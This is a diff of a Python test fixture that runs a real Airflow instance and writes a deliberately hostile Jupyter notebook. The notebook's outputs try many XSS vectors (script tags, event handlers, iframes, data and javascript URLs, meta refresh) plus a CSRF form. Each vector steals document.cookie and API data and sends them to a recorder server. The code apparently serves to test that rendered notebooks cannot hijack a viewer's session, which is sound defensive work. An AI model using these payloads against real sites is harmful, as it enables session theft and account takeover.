@@ -1,5 +1,6 @@
 """A real Airflow for the tests: scheduler, DAG processor and API server on SQLite, with our DAGs and DAGs of trials."""
 
+import html
 import threading
 import time
 from contextlib import contextmanager
@@ -38,23 +39,34 @@ with DAG("pages", schedule=None):
 """
 SLOW = ["import os, time\nprint('kernel', os.getpid())", "time.sleep(600)", "print('never')"]
 
-# What a notebook may print to get at the session of whoever looks at it: each would tell ELSEWHERE of its success.
-HOSTILE = """
-from IPython.display import HTML, display
-steal = '''(new Image).src = "ELSEWHERE/WAY?" + encodeURIComponent(document.cookie);
-fetch("/api/v2/dags", {credentials: "include"}).then(a => a.text()).then(t => fetch("ELSEWHERE/WAY?api=" + t.length));
-parent.document.title = "taken over"; document.title = "taken over";'''
-def by(way):
-    return steal.replace("WAY", way).replace('"', "&quot;")
-display(HTML('<p id="harmless">what the notebook shows</p><script>' + steal.replace("WAY", "script") + '</script>'))
-display(HTML(f'<img src="data:," onerror="{by("handler")}"><svg onload="{by("svg")}"></svg>'))
-display(HTML(f'<iframe srcdoc="<script>{by("frame")}</script>"></iframe>'))
-display(HTML(f'<iframe src="data:text/html,<script>{by("data")}</script>"></iframe>'))
-display(HTML(f'<iframe src="javascript:{by("address")}"></iframe>'))
-display(HTML('<link rel="stylesheet" href="ELSEWHERE/style"><img src="ELSEWHERE/picture">'))
-display(HTML('<meta http-equiv="refresh" content="1; url=ELSEWHERE/refresh">'))
-display(HTML('<form id="form" method="post" action="/api/v2/dags/etl/dagRuns"><input type="submit" autofocus></form>'))
-"""
+
+def steal(elsewhere: str, way: str) -> str:
+    """A script that takes what it can get of the session of whoever looks at it, and tells another server."""
+    return f"""
+        parent.document.title = document.title = "taken over";
+        (new Image).src = "{elsewhere}/{way}?" + encodeURIComponent(document.cookie);
+        fetch("/api/v2/dags", {{credentials: "include"}}).then(a => a.text()).then(t => fetch("{elsewhere}/{way}?" + t.length));
+    """
+
+
+def hostile(elsewhere: str) -> str:
+    """The code of a cell whose outputs try it in every way."""
+
+    def quoted(way: str) -> str:
+        return html.escape(steal(elsewhere, way))
+
+    tricks = [
+        f"<script>{steal(elsewhere, 'script')}</script>",
+        f'<img src="data:," onerror="{quoted("handler")}"><svg onload="{quoted("svg")}"></svg>',
+        f'<iframe srcdoc="&lt;script&gt;{quoted("frame")}&lt;/script&gt;"></iframe>',
+        f'<iframe src="data:text/html,&lt;script&gt;{quoted("data")}&lt;/script&gt;"></iframe>',
+        f'<iframe src="javascript:{quoted("address")}"></iframe>',
+        f'<link rel="stylesheet" href="{elsewhere}/style"><img src="{elsewhere}/picture">',
+        f'<meta http-equiv="refresh" content="1; url={elsewhere}/refresh">',
+        '<form id="form" method="post" action="/api/v2/dags/etl/dagRuns"><input type="submit"></form>',
+        '<p id="harmless">what the notebook shows</p>',
+    ]
+    return f"from IPython.display import HTML, display\nfor trick in {tricks!r}:\n    display(HTML(trick))"
 
 
 def notebook(*code: str, title: str = "## Wait", summary: str = ""):
@@ -145,8 +157,8 @@ def airflow(server, tmp_path_factory):
     with bot_api() as bot, recorder() as elsewhere:
         nbformat.write(notebook(*SLOW), home / "slow.ipynb")
         summary = "print('42 rows of trial')"
-        hostile = notebook(HOSTILE.replace("ELSEWHERE", elsewhere.url), title="# Hostile\nIt tries.", summary=summary)
-        nbformat.write(hostile, home / "hostile.ipynb")
+        tricks = notebook(hostile(elsewhere.url), title="# Hostile\nIt tries.", summary=summary)
+        nbformat.write(tricks, home / "hostile.ipynb")
         trials = TRIALS.replace("SLOW", str(home / "slow.ipynb")).replace("HOSTILE", str(home / "hostile.ipynb"))
         (folder / "trials.py").write_text(trials)
         try:
